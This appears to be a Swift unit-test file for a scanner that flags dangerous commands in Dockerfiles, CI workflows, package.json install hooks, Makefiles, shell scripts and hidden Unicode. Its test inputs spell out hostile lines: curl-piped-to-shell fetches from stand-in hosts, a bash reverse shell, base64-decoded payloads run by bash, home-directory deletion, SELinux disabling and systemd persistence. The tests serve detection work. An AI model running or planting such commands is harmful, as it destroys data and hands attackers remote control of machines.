import XCTest
@testable import WowGuardCore

/// Per-format extraction and detection: each format with triggering and non-triggering examples.
final class ScriptTests: XCTestCase {
    let detector = ScriptDetector(allowlist: Allowlist())

    func rules(_ path: String, _ text: String) -> [String] { detector.scan(path: path, text: text).map(\.ruleID) }
    func lines(_ path: String, _ text: String) -> [Int] { detector.scan(path: path, text: text).map(\.line) }

    func testDockerfile() {
        XCTAssertEqual(rules("Dockerfile", """
            FROM debian:12
            RUN apt-get update && apt-get install -y curl \\
                && rm -rf /var/lib/apt/lists/*
            RUN ["sh", "-c", "make install"]
            """), [], "cleaning apt lists in an image is normal")
        let f = detector.scan(path: "build/Dockerfile", text: "FROM alpine\nENV X=1\nRUN curl -fsSL https://get.example.sh | sh\n")
        XCTAssertTrue(f.contains { $0.ruleID.hasPrefix("rce.") && $0.line == 3 }, "\(f.map { ($0.ruleID, $0.line) })")
        XCTAssertTrue(rules("Containerfile", "FROM x\nRUN [\"/bin/sh\", \"-c\", \"wget -qO- http://x.example/i.sh | bash\"]\n").contains { $0.hasPrefix("rce.") })
        XCTAssertTrue(rules("Dockerfile.dev", "FROM x\nRUN echo start && \\\n    curl https://x.example/a.sh | sh\n").contains { $0.hasPrefix("rce.") })
        XCTAssertTrue(rules("Dockerfile", "FROM x\nRUN <<EOF\nset -e\ncurl https://x.example/a.sh | bash\nEOF\n").contains { $0.hasPrefix("rce.") })
        // Pinned to a commit: not a finding.
        XCTAssertEqual(rules("Dockerfile", "FROM x\nRUN curl -fsSL https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/install.sh | sh\n")
            .filter { $0.hasPrefix("rce.") }, [])
    }

    func testCIWorkflows() {
        let workflow = """
            name: ci
            on: push
            jobs:
              build:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - name: test
                    run: swift test
                  - name: cleanup
                    run: |
                      echo done
                      rm -rf ~
            """
        let f = detector.scan(path: ".github/workflows/ci.yml", text: workflow)
        XCTAssertTrue(f.contains { $0.ruleID.hasPrefix("fs.") && $0.line == 13 }, "\(f.map { ($0.ruleID, $0.line) })")
        XCTAssertEqual(rules(".github/workflows/ok.yml", "jobs:\n  a:\n    steps:\n      - run: rm -rf build dist\n      - run: swift build -c release\n"), [])
        let gitlab = "test:\n  script:\n    - npm ci\n    - curl -s https://x.example/setup | bash\n"
        XCTAssertEqual(lines(".gitlab-ci.yml", gitlab).first, 4)
        XCTAssertTrue(rules(".gitlab-ci.yml", "deploy:\n  script: [\"make deploy\", \"curl http://x.example/a | sh\"]\n").contains { $0.hasPrefix("rce.") })
        // YAML that is not CI is data.
        XCTAssertEqual(rules("config/app.yml", "run: |\n  rm -rf ~\n"), [])
    }

    func testPackageJSON() {
        let pkg = """
            {
              "name": "demo",
              "scripts": {
                "test": "jest",
                "build": "rm -rf dist && tsc",
                "postinstall": "curl -s https://x.example/p.sh | sh"
              }
            }
            """
        let f = detector.scan(path: "package.json", text: pkg)
        let rce = f.first { $0.ruleID.hasPrefix("rce.") }
        XCTAssertEqual(rce?.line, 6)
        XCTAssertEqual(rce?.severity, .critical)
        XCTAssertTrue(rce?.description.contains("install hook") ?? false)
        // Install hooks are stricter: any network fetch there is a finding.
        let hook = detector.scan(path: "package.json", text: "{\"scripts\": {\"preinstall\": \"curl -o x.tgz https://x.example/x.tgz\"}}")
        XCTAssertTrue(hook.contains { $0.ruleID == "script.install-hook-network" && $0.severity == .high }, "\(hook.map(\.ruleID))")
        XCTAssertEqual(rules("package.json", "{\"scripts\": {\"test\": \"curl -s localhost:3000/health\"}}"), [])
        XCTAssertEqual(rules("package.json", "{ not json"), [])
    }

    func testMakefileJustfileAndPreCommitConfig() {
        let make = "build:\n\tswift build\n\nclean:\n\trm -rf .build\n\nnuke:\n\t@rm -rf $$HOME/\n"
        let f = detector.scan(path: "Makefile", text: make)
        XCTAssertEqual(f.filter { $0.ruleID.hasPrefix("fs.") }.map(\.line), [8], "\(f.map { ($0.ruleID, $0.line) })")
        XCTAssertEqual(rules("justfile", "build:\n    swift build\n\nsetup:\n    curl -fsSL https://x.example/i | sh\n").filter { $0.hasPrefix("rce.") }.count, 1)
        XCTAssertEqual(rules("justfile", "set shell := [\"bash\", \"-c\"]\nbuild:\n    cargo build\n"), [])
        let precommit = "repos:\n- repo: local\n  hooks:\n  - id: evil\n    entry: bash -c 'curl -s http://x.example/a | sh'\n    language: system\n"
        XCTAssertTrue(rules(".pre-commit-config.yaml", precommit).contains { $0.hasPrefix("rce.") })
    }

    func testShellScriptsAndSetupPy() {
        let script = """
            #!/usr/bin/env bash
            set -euo pipefail
            cleanup() {
              rm -rf "$TMPDIR/build"
            }
            cat <<'EOF' > README.txt
            never run rm -rf / or curl … | sh
            EOF
            bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
            """
        let f = detector.scan(path: "tools/run", text: script)
        XCTAssertEqual(f.map(\.line), [9], "\(f.map { ($0.ruleID, $0.line) })")
        XCTAssertTrue(f.first?.ruleID.hasPrefix("revshell.") ?? false)
        XCTAssertTrue(rules("setup.py", "import os\nos.system('curl https://x.example/s.sh | sh')\n").contains { $0.hasPrefix("rce.") })
        XCTAssertEqual(rules("setup.py", "import subprocess\nsubprocess.run(['make'], check=True)\n"), [])
        XCTAssertTrue(rules("deploy.sh", "echo 'aGVsbG8=' | base64 -d | bash\n").contains { $0.hasPrefix("rce.") || $0.hasPrefix("script.") })
        XCTAssertTrue(rules("x.sh", "sudo setenforce 0\n").contains("script.disable-security"))
        XCTAssertTrue(rules("x.sh", "cp evil.service /etc/systemd/system/ && systemctl enable evil\n").contains("script.persistence"))
    }

    func testProseAndCodeStringsAreData() {
        let readme = "# Safety\n\nNever run `curl https://x.example/i.sh | sh` or `rm -rf /`.\n\n```sh\nrm -rf ~\n```\n"
        XCTAssertEqual(rules("README.md", readme), [])
        XCTAssertEqual(rules("docs/install.md", readme), [])
        XCTAssertEqual(rules("Tests/ShellCases.swift", "let cases = [\"rm -rf /\", \"curl x | sh\"]\n"), [])
        XCTAssertEqual(rules("src/app.py", "BAD = 'curl https://x.example | sh'\n"), [])
    }

    func testInvisibleUnicode() {
        let bidi = "let access = \"user\u{202E} \u{2066}// admin\u{2069}\u{2066}\"\n"
        let f = detector.scan(path: "src/auth.swift", text: "// fine\n" + bidi)
        XCTAssertEqual(f.first?.ruleID, "unicode.bidi-control")
        XCTAssertEqual(f.first?.line, 2)
        XCTAssertEqual(f.first?.column, 19)
        XCTAssertEqual(f.first?.secret, "U+202E")
        XCTAssertTrue(rules("a.py", "x = 1\u{200B}\n").contains("unicode.zero-width"))
        XCTAssertTrue(rules("a.js", "const key\u{E0041} = 1\n").contains("unicode.tag-character"))
        XCTAssertTrue(rules("a.js", "let p\u{0430}ypal = 1\n").contains("unicode.mixed-script-identifier"))
        // Ordinary non-ASCII text is not a finding.
        XCTAssertEqual(rules("a.swift", "let greeting = \"héllo wörld — 你好 👨‍👩‍👧\"\nlet ру́сский = 1\n"), [])
        XCTAssertEqual(rules("docs/emoji.md", "family 👨‍👩‍👧 and a zero\u{200B}width space in prose\n"), [])
        XCTAssertEqual(rules("a.swift", "\u{FEFF}import Foundation\n"), [], "a byte-order mark at the start is fine")
    }

    func testChangedFileReportsOnlyAddedLines() {
        let text = "build:\n\tswift build\nnuke:\n\trm -rf $$HOME/\n"
        // Only line 2 is added: the dangerous recipe on line 4 was already there.
        let old = detector.detect(ChangedFile(path: "Makefile", hunks: [AddedHunk(startLine: 2, lines: ["\tswift build"])], newText: text))
        XCTAssertEqual(old.map(\.ruleID), [])
        let new = detector.detect(ChangedFile(path: "Makefile", hunks: [AddedHunk(startLine: 4, lines: ["\trm -rf $$HOME/"])], newText: text))
        XCTAssertEqual(new.map(\.line), [4])
        // Multi-line YAML block: the added line is inside a block whose key is on an older line.
        let wf = "jobs:\n  a:\n    steps:\n      - run: |\n          echo hi\n          curl http://x.example/a | sh\n"
        let f = detector.detect(ChangedFile(path: ".github/workflows/x.yml", hunks: [AddedHunk(startLine: 6, lines: ["          curl http://x.example/a | sh"])], newText: wf))
        XCTAssertTrue(f.contains { $0.ruleID.hasPrefix("rce.") }, "\(f.map(\.ruleID))")
    }

    func testFragmentsWithoutWholeTextHonourTheInlineMarker() {
        let marked = detector.detect(ChangedFile(path: "x.sh", hunks: [AddedHunk(startLine: 3, lines: ["rm -rf / # wow-guard:allow"])]))
        XCTAssertEqual(marked.count, 0)
        let plain = detector.detect(ChangedFile(path: "x.sh", hunks: [AddedHunk(startLine: 3, lines: ["rm -rf /"])]))
        XCTAssertEqual(plain.map(\.line), [3])
        XCTAssertEqual(detector.detect(ChangedFile(path: "notes.txt", hunks: [AddedHunk(startLine: 1, lines: ["rm -rf /"])])).count, 0)
    }

    func testAllowlistsApply() {
        let d = ScriptDetector(allowlist: Allowlist(paths: [try! Glob("fixtures/**")]))
        XCTAssertEqual(d.scan(path: "fixtures/evil.sh", text: "rm -rf /\n").count, 0)
        XCTAssertEqual(detector.scan(path: "evil.sh", text: "rm -rf / # wow-guard:allow\n").count, 0)
        let f = detector.scan(path: "evil.sh", text: "rm -rf /\n")
        XCTAssertEqual(f.count, 1)
        let fp = ScriptDetector(allowlist: Allowlist(fingerprints: [f[0].fingerprint]))
        XCTAssertEqual(fp.scan(path: "evil.sh", text: "\n\nrm -rf /\n").count, 0, "fingerprints do not depend on the line")
    }
}
